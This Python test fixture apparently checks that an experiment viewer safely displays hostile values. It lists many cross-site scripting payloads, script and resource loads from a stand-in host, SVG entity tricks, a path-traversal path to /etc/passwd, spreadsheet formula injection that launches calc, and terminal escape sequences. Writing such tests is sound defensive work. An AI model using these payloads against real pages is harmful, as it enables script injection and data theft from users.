"""Values that a page must survive: each tries to run a script, to load something from elsewhere, or to break what shows it."""

from __future__ import annotations

import json
import math
import pathlib
from dataclasses import dataclass
from typing import Any

import numpy as np
import pandas as pd
from plotly import graph_objects

import hitsave

OUTSIDE = "http://outside.invalid/x"
SCRIPT = "<script>alert(1)</script>"


@dataclass
class Innocent:
    field: object


class Markup:
    """Shows itself as markup of one kind."""

    def __init__(self, kind: str, text: str) -> None:
        self.kind = kind
        self.text = text


class Html(Markup):
    def _repr_html_(self) -> str:
        return self.text


class Svg(Markup):
    def _repr_svg_(self) -> str:
        return self.text


class Png(Markup):
    def _repr_png_(self) -> bytes:
        return self.text.encode("utf-8")


class Markdown(Markup):
    def _repr_markdown_(self) -> str:
        return self.text


def svg(inside: str) -> Svg:
    return Svg("svg", f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='90' height='40'>{inside}</svg>")


def plotly(data: list[dict[str, Any]], layout: dict[str, Any] | None = None) -> Any:
    """A figure as plotly keeps it, with whatever is in it: its own checks would refuse most of this, a file that was changed by hand has none."""
    figure = graph_objects.Figure()
    figure.to_json = lambda *_, **__: json.dumps({"data": data, "layout": layout or {}})
    return figure


def deep(levels: int) -> object:
    value: object = "bottom"
    for _ in range(levels):
        value = [value]
    return value


VALUES = {
    "script": SCRIPT,
    "image": f"<img src={OUTSIDE} onerror=alert(1)>",
    "broken out": f"\"'></td></table>{SCRIPT}",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
    "script address": "javascript:alert(1)",
    "lone surrogates": "\ud800 \udfff a \udc80",
    "controls": "".join(map(chr, range(32))) + "\x7f\u0085\u2028\u2029",
    "right to left": "\u202e<b>abc</b>\u202c \u2066x\u2069",
    "zalgo": "e" + "\u0301" * 500,
    "long": "x" * 200_000,
    "lines": "\n" * 5_000,
    "keys": {SCRIPT: 1, "__proto__": {"polluted": True}, "constructor": {"prototype": 2}, "": 3, "\ud800": 4},
    "not a number": math.nan,
    "infinities": [math.inf, -math.inf, -0.0, 5e-324, 1.7e308],
    "huge integer": 10**400,
    "large integer": 2**60,
    "deep": deep(500),
    "wide": {f"column {n}": n for n in range(3_000)},
    "bytes": b"\x00\xff<script>",
    "empty": [(), [], {}, set(), "", b"", None],
    "html script": Html("html", f"<h3>A title</h3><p onclick=alert(1)>text</p>{SCRIPT}<img src={OUTSIDE} onerror=alert(1)>"),
    "html style": Html(
        "html", f"<style>@import '{OUTSIDE}';body{{background:url({OUTSIDE})}}</style><p style='background:url({OUTSIDE})'>styled</p>"
    ),
    "html frame": Html(
        "html", f"<iframe src={OUTSIDE}></iframe><object data={OUTSIDE}></object><embed src={OUTSIDE}><link rel=stylesheet href={OUTSIDE}>"
    ),
    "html refresh": Html("html", f"<meta http-equiv=refresh content='0;url={OUTSIDE}'><base href={OUTSIDE}><a href={OUTSIDE} target=_top>link</a>"),
    "html form": Html("html", f"<form action={OUTSIDE}><input autofocus onfocus=alert(1)><button>go</button></form><svg onload=alert(1)></svg>"),
    "html math": Html("html", "<math><mtext></form><mglyph><style></math><img src onerror=alert(1)>"),
    "html large": Html("html", "<table>" + "<tr><td>cell</td></tr>" * 8_000 + "</table>"),
    "svg": Svg(
        "svg",
        f"<svg xmlns='http://www.w3.org/2000/svg' width='90' height='40' onload='alert(1)'>{SCRIPT}<rect width='90' height='40' fill='teal'/>"
        f"<image href='{OUTSIDE}'/><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject></svg>",
    ),
    "svg broken": Svg("svg", "<svg <<< not one"),
    "markdown": f"[link](javascript:alert(1)) ![image]({OUTSIDE})",
}

# Ways to run a script that pages have fallen for, each as HTML and, where it is one, within an SVG and as Markdown.
TRICKS = {
    "event": "<img src=x onerror=alert(1)>",
    "event without quotes": "<img/src=x/onerror=alert(1)>",
    "event after a line": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "body": "<body onload=alert(1) onpageshow=alert(1)>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "focus": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>",
    "script address": f"<script src={OUTSIDE}></script>",
    "script module": f"<script type=module>import '{OUTSIDE}'</script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT >",
    "script twice": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script unclosed": "<script>alert(1)",
    "javascript link": "<a href=javascript:alert(1)>x</a><a href='java\tscript:alert(1)'>y</a><a href=' &#106;avascript:alert(1)'>z</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "frame document": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "frame script": "<iframe src=javascript:alert(1)></iframe>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='data:text/html,<script>alert(1)</script>'>",
    "applet": f"<applet code={OUTSIDE}></applet><portal src={OUTSIDE}></portal>",
    "picture": f"<picture><source srcset={OUTSIDE}><img src={OUTSIDE}></picture>",
    "image set": f"<img srcset='{OUTSIDE} 1x, {OUTSIDE} 2x'>",
    "background": f"<table background={OUTSIDE}><td background={OUTSIDE}>x</table>",
    "style": f"<p style='background-image:url({OUTSIDE});position:fixed;inset:0'>x</p>",
    "style import": f"<style>@import url({OUTSIDE});*{{background:url({OUTSIDE})}}@font-face{{font-family:x;src:url({OUTSIDE})}}</style>",
    "link": f"<link rel=stylesheet href={OUTSIDE}><link rel=preload as=image href={OUTSIDE}><link rel=dns-prefetch href={OUTSIDE}>",
    "base": f"<base href={OUTSIDE}><img src=y>",
    "refresh": f"<meta http-equiv=refresh content='0;url={OUTSIDE}'><meta http-equiv=Content-Security-Policy content='script-src *'>",
    "form": f"<form action={OUTSIDE}><button formaction=javascript:alert(1)>x</button></form>",
    "template": "<template><img src=x onerror=alert(1)></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></table></mtext></math>",
    "svg in html": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg><svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "svg use": f"<svg><use href='{OUTSIDE}#x'/><image href='{OUTSIDE}'/><foreignObject><iframe src={OUTSIDE}></iframe></foreignObject></svg>",
    "comment": "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>",
    "entity": "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "null": "<img src=x one\0rror=alert(1)><scr\0ipt>alert(1)</script>",
    "attribute": "<p title='\"><script>alert(1)</script>'><p title=\"'><img src=x onerror=alert(1)>\">x",
    "clobber": "<form id=panel><input name=children></form><img name=body><a id=acquireVsCodeApi></a>",
    "top": f"<a href={OUTSIDE} target=_top ping={OUTSIDE}>x</a><area href={OUTSIDE}>",
}
TEXTS = {"event", "script", "null", "entity", "attribute", "comment", "refresh", "base", "top"}
VALUES |= {f"html {name}": Html("html", text) for name, text in TRICKS.items()}
VALUES |= {f"text {name}": text for name, text in TRICKS.items() if name.split()[0] in TEXTS}
VALUES |= {
    f"svg {name}": svg(TRICKS[name])
    for name in ("event", "script address", "style import", "svg in html", "svg use", "frame document", "javascript link")
}
VALUES |= {
    "svg entity": Svg("svg", f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{OUTSIDE}'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"),
    "svg laughs": Svg(
        "svg", "<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>"
    ),
    "svg style sheet": Svg("svg", f"<?xml-stylesheet href='{OUTSIDE}'?><svg xmlns='http://www.w3.org/2000/svg'/>"),
    "svg enormous": Svg("svg", "<svg xmlns='http://www.w3.org/2000/svg' width='999999999' height='999999999'/>"),
    "png that is html": Png("png", SCRIPT),
    "png that is nothing": Png("png", "\x89PNG"),
    "markdown html": Markdown("markdown", "\n\n".join(TRICKS.values())),
    "markdown links": Markdown(
        "markdown",
        f'[a](javascript:alert(1)) <javascript:alert(1)> [b]: {OUTSIDE}\n\n![c]({OUTSIDE}) [d]({OUTSIDE} "\' onclick=alert(1)") [e](data:text/html,x)',
    ),
    "markdown fence": Markdown("markdown", f"```{SCRIPT}\n{SCRIPT}\n"),
    "markdown table": Markdown("markdown", f"| {SCRIPT} | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x]({OUTSIDE}) |"),
    "markdown deep": Markdown("markdown", "> " * 3_000 + "x"),
    "markdown stars": Markdown("markdown", "*" * 20_000 + "_" * 20_000 + "[" * 20_000 + "`" * 20_000),
    "markdown lists": Markdown("markdown", "\n".join(" " * n + "- x" for n in range(300))),
    "plotly script": plotly(
        [{"type": "scatter", "y": [1, 2], "name": SCRIPT, "text": ["<a href='javascript:alert(1)'>x</a>", "<img src=x onerror=alert(1)>"]}]
    ),
    "plotly title": plotly([{"type": "bar", "y": [1]}], {"title": {"text": f"<a href='{OUTSIDE}'>x</a><b onclick=alert(1)>y</b>{SCRIPT}"}}),
    "plotly image": plotly([{"type": "image", "source": OUTSIDE}], {"images": [{"source": OUTSIDE}, {"source": "javascript:alert(1)"}]}),
    "plotly map": plotly([{"type": "scattergeo", "lat": [1], "lon": [1]}, {"type": "choropleth", "locations": ["x"], "geojson": OUTSIDE}]),
    "plotly tiles": plotly([{"type": "scattermapbox", "lat": [1], "lon": [1]}], {"mapbox": {"style": OUTSIDE}}),
    "plotly template": plotly([{"type": "bar", "y": [1]}], {"template": {"layout": {"images": [{"source": OUTSIDE}]}}}),
    "plotly menus": plotly([{"type": "bar", "y": [1]}], {"updatemenus": [{"buttons": [{"method": "animate", "args": ["javascript:alert(1)"]}]}]}),
    "plotly types": plotly([{"type": "constructor", "y": 1}, {"type": ["bar"]}, 7, None], {"title": 7, "xaxis": []}),
    "plotly prototype": plotly([{"type": "bar", "y": [1], "__proto__": {"polluted": True}}], {"__proto__": {"polluted": True}}),
    "plotly font": plotly([{"type": "bar", "y": [1]}], {"font": {"family": f"x;background:url({OUTSIDE})", "color": f"url({OUTSIDE})"}}),
    "path": pathlib.Path(f"/tmp/{SCRIPT}/../../etc/passwd"),
    "path with lines": pathlib.Path("a\nb\r\x00c"),
    "exception": ValueError(SCRIPT, {"<img src=x onerror=alert(1)>": 1}),
    "field": Innocent(SCRIPT),
    "deep mapping": {"a": deep(100), "b": {"c": {"d": {"e": {"f": {"g": 1}}}}}},
    "mapping of types": {1: 1, None: 3, (1, 2): 4, b"x": 5, 1.5: 6, frozenset({1}): 7},
    "array": np.full((100, 100), np.nan),
    "array of infinities": np.array([[np.inf, -np.inf] * 8] * 16),
    "array empty": np.zeros((0, 5)),
    "array of texts": np.array([SCRIPT, "\ud800"]),
    "array of records": np.array([(1, SCRIPT)], dtype=[("<b>", "i4"), ("text", "U40")]),
    "array wide": np.zeros((9, 200_000)),
    "array of complex": np.array([1 + 2j, complex(np.nan, np.inf)]),
    "array of extremes": np.array([[1e308, -1e308] * 8] * 8),
    "frame": pd.DataFrame({SCRIPT: [SCRIPT] * 60, "<img src=x onerror=alert(1)>": range(60)}),
    "frame wide": pd.DataFrame(np.zeros((3, 2_000))),
    "frame of objects": pd.DataFrame({"a": [SCRIPT, deep(50), None], "a ": [math.nan, math.inf, "x"]}),
    "frame empty": pd.DataFrame(),
    "series": pd.Series([SCRIPT, None], name="<b>"),
    "quotes": "\"'`</script><!--",
    "separators": "a\u2028b\u2029c\ufeff\u200b\u200d",
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 50,
    "surrogate pair apart": "\ud83d" + "x" + "\udc69",
    "one long word": "W" * 15_000,
    "address": f"{OUTSIDE} mailto:x@y vscode://x file:///etc/passwd",
    "csv": '=HYPERLINK("http://outside.invalid")',
    "csv more": "@SUM(1+1)*cmd|' /C calc'!A0",
    "filter": 'a="b" or c<d -x:"y\\" |',
    "escape": "\x1b]8;;http://outside.invalid\x07link\x1b]8;;\x07\x1b[2J",
    "boundary integers": [2**53, 2**53 + 1, -(2**63), 2**64, 10**30],
    "tiny numbers": [5e-324, -5e-324, 1e-300, 0.1 + 0.2],
    "numbers as keys": {math.nan: 1, math.inf: 2, -0.0: 3},
    "time": np.datetime64("NaT", "s"),
    "pixels": np.random.default_rng(0).integers(0, 255, (32, 48, 3), dtype=np.uint8),
}
VALUES |= {
    f"name {text}": text for text in ("constructor", "__proto__", "toString", "hasOwnProperty", "then", "\u202egnp.exe", "a.b.c", "", " ", "null")
}


@hitsave.experiment
def show(name: str, value: object) -> object:
    hitsave.log(step=math.inf if name == "not a number" else 1.0, **{"<b>metric</b>": math.nan if name == "not a number" else 1.0, name[:9]: 2.0})
    return value


if __name__ == "__main__":
    for name, value in VALUES.items():
        show(name, value)
